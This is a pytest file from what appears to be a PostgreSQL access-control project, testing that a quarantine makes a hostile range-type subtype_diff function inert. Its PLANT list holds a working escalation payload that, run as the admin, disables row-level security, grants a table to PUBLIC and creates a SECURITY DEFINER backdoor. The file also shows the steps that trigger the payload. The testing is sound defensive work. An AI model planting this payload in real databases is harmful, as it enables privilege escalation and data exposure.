"""Hostile scripts, issue 21 item 1: functions PostgreSQL calls without an EXECUTE check
(docs/trust.md, "Objects left behind are inert"; sql/functions/remote/scripts/quarantine.sql).

Of the catalog entries that name a function PostgreSQL calls with no EXECUTE check (range
subtype_diff and canonical, opclass support, type I/O and analyze, operator selectivity,
conversions, planner support, text search parsers and templates, transforms, FDW handlers,
access methods, event triggers), a role that is not a superuser can make only a range type's
``subtype_diff`` (test_what_a_non_superuser_cannot_name shows the rest refused). ANALYZE of a
range column (as the table's owner) and a GiST index on one call it. So a script's
range type with a PL/pgSQL ``subtype_diff``, passed to the admin login by a sweep or by
drop_datatable_role, would run its body as the admin login, EXECUTE revoked or not. The
function must be IMMUTABLE when the type is made; the script makes it VOLATILE afterwards,
so that its body may run DDL.

The quarantine replaces the body in place (same name, arguments, result) by an inert SQL one:
``SELECT 0::float8``. Nothing is dropped: the type, the table, its rows and its GiST index stay,
and ANALYZE and GiST keep working. When the function is another live role's (which the link
login cannot replace), the move is refused and the table stays the NOLOGIN victim's.

Roles are cluster-wide: every one made here is named by the world (uid prefix). Time moves by
``settings.clock_offset``, never by sleeping.
"""

from __future__ import annotations

import psycopg
import pytest
from psycopg import errors, sql

from support import connect
from test_hostile_objects import (WORLD, as_admin, as_viewer, attacker, give_create, one,
                                  past_unused_after, qualified, sweep)

# The payload: run as the admin login (which owns orders), it turns RLS off on orders,
# grants it to PUBLIC and leaves a definer function that runs anything, once. Otherwise it
# only returns the difference.
PLANT = [
    """CREATE FUNCTION public.rdiff(a float8, b float8) RETURNS float8
       LANGUAGE plpgsql IMMUTABLE AS $$
       BEGIN
           IF (SELECT c.relrowsecurity AND pg_catalog.pg_has_role(c.relowner, 'USAGE')
                   FROM pg_catalog.pg_class AS c
                   WHERE c.oid = 'public.orders'::pg_catalog.regclass) THEN
               EXECUTE 'ALTER TABLE public.orders DISABLE ROW LEVEL SECURITY';
               EXECUTE 'GRANT ALL ON public.orders TO PUBLIC';
               EXECUTE 'CREATE FUNCTION public.backdoor(q text) RETURNS void'
                   ' LANGUAGE plpgsql SECURITY DEFINER AS $b$ BEGIN EXECUTE q; END $b$';
               EXECUTE 'GRANT EXECUTE ON FUNCTION public.backdoor(text) TO PUBLIC';
           END IF;
           RETURN a - b;
       END $$""",
    "CREATE TYPE public.r AS RANGE (subtype = float8, subtype_diff = public.rdiff)",
    # CREATE TYPE wants it immutable; once made, a read-only body could not run DDL.
    "ALTER FUNCTION public.rdiff(float8, float8) VOLATILE",
    "CREATE TABLE public.spans (id integer, span public.r)",
    "INSERT INTO public.spans SELECT i, public.r(i, i + 1.5) FROM generate_series(1, 3000) AS i",
    "CREATE INDEX spans_span ON public.spans USING gist (span)",
]


def payload_effects(su: psycopg.Connection) -> dict:
    """What the payload would have done, seen by the superuser in the data table database."""
    return dict(
        rls=one(su, "SELECT relrowsecurity FROM pg_class WHERE oid = 'public.orders'::regclass"),
        public=one(su, "SELECT count(*) FROM pg_class AS c, aclexplode(c.relacl) AS a"
                       " WHERE c.oid = 'public.orders'::regclass AND a.grantee = 0"),
        backdoor=one(su, "SELECT count(*) FROM pg_proc WHERE proname = 'backdoor'"),
    )


CLEAN = dict(rls=True, public=0, backdoor=0)


@pytest.fixture
def world(make_world):
    return make_world(**WORLD)


# What calls subtype_diff as the admin login: ANALYZE of the table by the admin login (range
# statistics); an INSERT into the GiST-indexed table by the admin login (GiST penalty, the
# index having inner pages); a database-wide ANALYZE by a superuser (as each table's owner).
STEPS = {
    "admin_analyze": "ANALYZE {}",
    "admin_gist_insert": "INSERT INTO {} VALUES (3001, '[-100,-50)')",
    "superuser_analyze": None,
}


@pytest.mark.parametrize("step", list(STEPS))
@pytest.mark.parametrize("case", ["sweep", "drop_role"])
def test_a_range_subtype_diff_is_inert_after_its_objects_pass_to_the_admin(world, case, step):
    """vic's set login (``sweep``) or cat acting as role c (``drop_role``) makes a range type
    whose subtype_diff carries the payload, and a table of it with a GiST index. After its
    objects pass to the admin login, ``step`` (an explicit ANALYZE of the table as the admin
    login, an INSERT into it as the admin login, a database-wide ANALYZE as a superuser) runs
    no payload; the function, the type, the table, its rows and its index are all kept."""
    w = world
    r, victim = attacker(w, case)
    give_create(w, victim)
    with as_viewer(w, r) as conn:
        for statement in PLANT:
            conn.execute(statement)
        conn.execute("ANALYZE public.spans")   # as its owner: no payload
    su = w.su(w.dbname)
    assert payload_effects(su) == CLEAN
    table = one(su, "SELECT 'public.spans'::regclass::oid")
    rdiff = one(su, "SELECT 'public.rdiff(float8, float8)'::regprocedure::oid")
    rtype = one(su, "SELECT 'public.r'::regtype::oid")
    assert one(su, "SELECT rngsubdiff::oid FROM pg_range WHERE rngtypid = %s", [rtype]) == rdiff

    if case == "sweep":
        past_unused_after(w)
        w.resolve("val")   # used meanwhile: only the attacker's login is unused
        report = sweep(w)
        # A login a sweep could not finish is finished by the next (docs/lifecycle.md): in
        # a busy cluster autovacuum may be analyzing the planted table at that moment.
        for _ in range(2):
            if report["dropped"] == 1:
                break
            assert report["skipped"] == 0 and len(report["unfinished"]) == 1, str(report)
            report = sweep(w)
        assert report["dropped"] == 1 and report["unfinished"] == [], str(report)
    else:
        # A drop whose move could not finish raises 2BP01 ("drop it again"): as for the
        # sweep above, autovacuum may be analyzing the planted table at that moment, and a
        # deadlock with it ends the move (seen once on 17).
        for attempt in range(2):
            try:
                w.call("SELECT drop_datatable_role(%s)", [w.c])
                break
            except errors.DependentObjectsStillExist as e:
                if attempt or "deadlock detected" not in str(e):
                    raise
        su.execute("DROP POLICY apac ON orders")   # names the dropped role (see test_hostile)
    assert w.role_state(victim) == (False, False)

    spans = qualified(su, table)
    if step == "superuser_analyze":
        with connect(w.cluster.superuser_conninfo(w.dbname)) as conn:
            conn.execute("ANALYZE")
    else:
        with as_admin(w) as conn:
            conn.execute(sql.SQL(STEPS[step]).format(spans))
    assert payload_effects(su) == CLEAN, f"{step} ran the payload as the admin login"
    with as_admin(w) as conn:
        conn.execute("SET enable_seqscan = off")
        assert one(conn, sql.SQL("SELECT count(*) FROM {} WHERE span && '[10,12)'").format(
            spans)) == 3   # [9,10.5), [10,11.5), [11,12.5)

    # Nothing is lost: the function (same signature, inert), the type and its use, the rows,
    # the index, all the admin login's.
    assert su.execute(
        "SELECT p.proowner::regrole::text, l.lanname::text, p.prosecdef,"
        " has_function_privilege(%s, p.oid, 'EXECUTE')"
        " FROM pg_proc AS p JOIN pg_language AS l ON l.oid = p.prolang WHERE p.oid = %s",
        [w.admin_login, rdiff]).fetchone() == (w.admin_login, "sql", False, False)
    assert one(su, "SELECT rngsubdiff::oid FROM pg_range WHERE rngtypid = %s", [rtype]) == rdiff
    assert "DISABLE ROW LEVEL SECURITY" in one(
        su, "SELECT obj_description(%s, 'pg_proc')", [rdiff]), "the old body is in its comment"
    assert one(su, "SELECT typowner::regrole::text FROM pg_type WHERE oid = %s", [rtype]) \
        == w.admin_login
    assert one(su, sql.SQL("SELECT count(*) FROM {}").format(spans)) \
        == (3001 if step == "admin_gist_insert" else 3000)
    assert one(su, sql.SQL("SELECT span::text FROM {} WHERE id = 7").format(spans)) \
        == "[7,8.5)"
    assert one(su, "SELECT count(*) FROM pg_index WHERE indrelid = %s", [table]) == 1
    # ANALYZE still builds the range length histogram (stakind 6), which calls subtype_diff.
    su.execute(sql.SQL("ANALYZE {}").format(spans))
    assert one(su, "SELECT count(*) FROM pg_statistic WHERE starelid = %s"
                   " AND 6 IN (stakind1, stakind2, stakind3, stakind4, stakind5)", [table]) == 1


# Each entry a non-superuser might try, and what PostgreSQL answers. Run as vic's set login
# with CREATE on schema public; the shell type (needed by a range canonical function and by
# base type I/O) is refused first.
REFUSED = [
    ("range canonical function (needs a shell type)", "CREATE TYPE public.shell"),
    ("range canonical function", "CREATE TYPE public.r2 AS RANGE (subtype = int4,"
                                 " canonical = int4range_canonical)"),
    ("base type I/O, analyze, subscript", "CREATE TYPE public.b (input = int4in,"
                                          " output = int4out)"),
    ("operator class support (pg_amproc)",
     "CREATE OPERATOR CLASS public.oc FOR TYPE float8 USING gist"
     " AS FUNCTION 1 btfloat8cmp(float8, float8)"),
    ("operator family support (pg_amproc)", "CREATE OPERATOR FAMILY public.of USING btree"),
    ("operator restrict/join in a trusted language",
     "CREATE FUNCTION public.sel(internal, oid, internal, integer) RETURNS float8"
     " LANGUAGE plpgsql AS 'BEGIN RETURN 0.5; END'"),
    ("conversion procedure in a trusted language",
     "CREATE FUNCTION public.conv(integer, integer, cstring, internal, integer, boolean)"
     " RETURNS integer LANGUAGE sql AS 'SELECT 0'"),
    ("planner support function", "CREATE FUNCTION public.f() RETURNS integer LANGUAGE sql"
                                 " SUPPORT generate_series_int4_support AS 'SELECT 1'"),
    ("text search parser", "CREATE TEXT SEARCH PARSER public.p (start = prsd_start,"
                           " gettoken = prsd_nexttoken, end = prsd_end,"
                           " lextypes = prsd_lextype)"),
    ("text search template", "CREATE TEXT SEARCH TEMPLATE public.t (lexize = dsimple_lexize)"),
    ("foreign-data wrapper handler", "CREATE FOREIGN DATA WRAPPER w"),
    ("access method handler", "CREATE ACCESS METHOD am TYPE TABLE HANDLER"
                              " heap_tableam_handler"),
    ("language handler", "CREATE LANGUAGE l HANDLER plpgsql_call_handler"),
    ("event trigger", "CREATE EVENT TRIGGER e ON ddl_command_start"
                      " EXECUTE FUNCTION pg_catalog.pg_event_trigger_ddl_commands()"),
]


@pytest.mark.parametrize(("what", "statement"), REFUSED, ids=[w for w, _ in REFUSED])
def test_what_a_non_superuser_cannot_name(world, what, statement):
    """The list in docs/trust.md: every other catalog entry naming a function called without
    an EXECUTE check is refused to a script (insufficient privilege, or a trusted language
    that cannot take ``internal``/``cstring``), so only a superuser can have made one."""
    w = world
    r, victim = attacker(w, "sweep")
    give_create(w, victim)
    with as_viewer(w, r) as conn:
        with pytest.raises(psycopg.DatabaseError,
                           match="superuser|shell type|cannot (accept|have arguments of) type"):
            conn.execute(statement)


def test_a_subtype_diff_of_another_live_role_keeps_the_relation_from_the_admin(world):
    """cat, acting as role c, makes the payload function and grants EXECUTE on it to PUBLIC;
    vic's set login makes the range type and the table over it. The link login cannot replace
    c's function, so vic's sweep leaves it unfinished, its table still vic's (NOLOGIN): an
    ANALYZE by the admin login runs the function as vic, not as admin. Once c is dropped (its
    function made inert), the next sweep drops vic's login, and ANALYZE as admin is harmless."""
    w = world
    r, victim = attacker(w, "sweep")
    cat, role_c = attacker(w, "drop_role")
    give_create(w, victim)
    give_create(w, role_c)
    with as_viewer(w, cat) as c_conn, as_viewer(w, r) as v_conn:
        c_conn.execute(PLANT[0])
        c_conn.execute("GRANT EXECUTE ON FUNCTION public.rdiff(float8, float8) TO PUBLIC")
        v_conn.execute(PLANT[1])   # the type
        c_conn.execute(PLANT[2])   # the function made volatile, by its owner
        for statement in PLANT[3:]:
            v_conn.execute(statement)
    su = w.su(w.dbname)
    table = one(su, "SELECT 'public.spans'::regclass::oid")
    assert one(su, "SELECT proowner::regrole::text FROM pg_proc"
                   " WHERE oid = 'public.rdiff(float8, float8)'::regprocedure") == role_c

    past_unused_after(w)
    w.resolve("val")
    w.resolve("cat")   # c's login stays in use
    report = sweep(w)
    assert report["dropped"] == 0, report
    assert [u["login"] for u in report["unfinished"]] == [r.login], report
    assert "call functions of other roles" in report["unfinished"][0]["reason"], report
    assert one(su, "SELECT relowner::regrole::text FROM pg_class WHERE oid = %s",
               [table]) == r.login
    with as_admin(w) as conn:
        conn.execute(sql.SQL("ANALYZE {}").format(qualified(su, table)))
    assert payload_effects(su) == CLEAN, "c's subtype_diff ran as the admin login"

    w.call("SELECT drop_datatable_role(%s)", [w.c])
    su.execute("DROP POLICY apac ON orders")
    report = sweep(w)   # vic's login, and cat's (its role gone)
    assert report["unfinished"] == [], report
    assert w.role_state(r.login) == (False, False)
    spans = qualified(su, table)
    with as_admin(w) as conn:
        conn.execute(sql.SQL("ANALYZE {}").format(spans))
        conn.execute(sql.SQL(STEPS["admin_gist_insert"]).format(spans))
    with connect(w.cluster.superuser_conninfo(w.dbname)) as conn:
        conn.execute("ANALYZE")
    assert payload_effects(su) == CLEAN
    assert one(su, sql.SQL("SELECT count(*) FROM {}").format(spans)) == 3001
